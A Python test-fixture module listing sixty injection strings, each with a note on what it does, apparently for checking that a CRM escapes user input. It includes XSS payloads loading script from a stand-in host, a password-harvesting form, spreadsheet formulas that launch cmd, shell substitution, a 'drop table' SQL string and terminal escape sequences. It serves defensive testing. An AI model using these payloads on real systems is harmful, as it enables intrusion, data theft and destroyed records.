r"""Sixty texts that would do something if any form let them; each with what it would do.

`pwn` stands in each where a browser would show it as a name of a tag, an attribute or an address:
there it must never be found, only in text.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Payload(NamedTuple):
    """A text, and why somebody would put it into a CRM."""

    text: str
    why: str


PAYLOADS: Final = (
    # Elements and attributes of a page.
    Payload("<script pwn>alert(1)</script>", "a script of its own"),
    Payload('</td></tr></table><script src="//pwn.example"></script>', "leaves the table first"),
    Payload("<img src=pwn onerror=alert(1)>", "a picture that fails"),
    Payload("<svg pwn onload=alert(1)><a xlink:href='javascript:pwn'>x</a></svg>", "a drawing"),
    Payload("<math><mi pwn xlink:href='data:x,pwn'>x</mi></math>", "a formula that is a link"),
    Payload("<iframe srcdoc='<p pwn>'></iframe>", "a page within the page"),
    Payload("</title></style><body pwn onload=alert(1)>", "closes what it may stand in"),
    Payload('" onmouseover="pwn()" x="', "leaves an attribute in double quotes"),
    Payload("' onfocus='pwn()' autofocus='", "leaves an attribute in single quotes"),
    Payload("` onfocus=`pwn()` x=`", "backquotes, which old browsers take for quotes"),
    Payload("/onclick=pwn()//", "follows an attribute without quotes"),
    Payload("<form action=//pwn.example><input name=pwn>", "asks for a password"),
    Payload("<meta http-equiv=refresh content='0;url=//pwn.example'>", "leads elsewhere"),
    Payload("<base href=//pwn.example>", "moves every address of the page"),
    Payload("<link rel=stylesheet href=//pwn.example>", "loads a style"),
    Payload("<style>@import '//pwn.example';*{color:red}</style>", "paints over the page"),
    Payload("</svg><foreignObject><p pwn>x</p></foreignObject>", "leaves a chart"),
    Payload("<details open pwn ontoggle=alert(1)><summary>", "opens a fold that runs"),
    Payload("--><b pwn>", "closes a comment"),
    Payload("<!-- pwn", "hides the rest in a comment"),
    Payload("]]><b pwn>", "closes a section of characters"),
    Payload("<![CDATA[<b pwn>]]>", "opens such a section"),
    Payload("<?pwn echo 1 ?>", "an instruction for a processor"),
    Payload("&lt;script pwn&gt;&#60;b pwn&#62;&#x3c;b pwn&#x3e;", "is escaped already"),
    Payload("+ADw-script pwn+AD4-", "UTF-7, should nobody say what the page is in"),
    Payload("＜script pwn＞ ‹script pwn›", "signs that become < where text is normalised"),
    Payload("<\u200dscript pwn><\u0455cript pwn></\u0455cript>", "a look-alike, a joiner inside"),
    Payload("<a href=javascript:pwn>x</a>", "a link of a page that runs"),
    # Markdown.
    Payload("[x](javascript:pwn)", "a link that runs"),
    Payload("![x](https://pwn.example/x.png)", "a picture that tells who reads"),
    Payload("[x][pwn]\n\n[pwn]: https://pwn.example", "a link by reference"),
    Payload("<https://pwn.example> <mailto:a@pwn.example>", "links in angle brackets"),
    Payload("_https://pwn.example", "a bare address after an underscore"),
    Payload("яhttps://pwn.example 1http://pwn.example", "one after a letter or a digit"),
    Payload("_www.pwn.example (www.pwn.example)", "an address without a scheme"),
    Payload("a@pwn.example xmpp:a@pwn.example", "an address of mail"),
    Payload("# pwn\n## pwn\n- pwn\n> pwn", "headings, a list, a quotation"),
    Payload("pwn\n---\npwn\n===", "headings by a line below"),
    Payload("a | pwn | b\n| --- | --- |\n| x \\| y |", "columns of its own"),
    Payload("```\npwn\n~~~~\n</pre>", "ends a block of code"),
    Payload("**pwn** __pwn__ ~~pwn~~ `pwn` *pwn*", "bold, struck out, code"),
    Payload("1. pwn\n2) pwn\n+ pwn\n    pwn", "a numbered list, an indented block"),
    Payload("@pwn #1 owner/repo#2 :tada: $x$ [^1] [ ] pwn", "a mention, an issue, a formula"),
    Payload("\\[x](https://pwn.example) \\\\<b pwn>", "backslashes that undo ours"),
    # Templates, formulas, names.
    Payload("{{ 7*7 }}{% include 'pwn' %}{# x #}", "a template"),
    Payload("${7*7} #{7*7} <%= pwn %> {0.__class__} %(pwn)s %s", "texts with places in them"),
    Payload("datum.pwn + signal('x') + event.item", "an expression of a chart"),
    Payload("__proto__", "the name of what all objects of a chart share"),
    Payload('=HYPERLINK("https://pwn.example","x")', "a formula of a spreadsheet"),
    Payload("@SUM(1+1)*cmd|' /C pwn'!A0", "a formula that starts a program"),
    Payload("＝1+1;\t=1+1", "a wide sign, and a cell of its own behind a tab"),
    Payload("--output=pwn; $(pwn) `pwn` | pwn", "an option and a command of a shell"),
    Payload("*/ drop table leads; -- pwn", "leaves a comment of SQL"),
    Payload("[red]pwn[/red][link=https://pwn.example]x[/link]:bomb:", "markup of our terminal"),
    # Characters.
    Payload("\x1b]0;pwn\x07\x1b[2J\x1b[31m\x1b]8;;//pwn.example\x1b\\x", "takes over a terminal"),
    Payload("\x9b31m\x9d0;pwn\x9c\x85x\x8d", "the same in single bytes"),
    Payload("safe\rpwn\x08\x08\x08\x7f\x0b\x0c", "types over what stood there"),
    Payload("\u202epwn\u2066x\u200f\u061c\u2028y\u2029", "turns a line around, or ends it"),
    Payload("\x00\ufeff\ufffe\uffff\ufffd\ue000pwn\U000e0041", "no characters, and private ones"),
    Payload("x" + "\u0301" * 400 + "👩‍👩‍👧‍👦" * 40 + "W" * 4000 + " pwn", "longer than any line"),
)
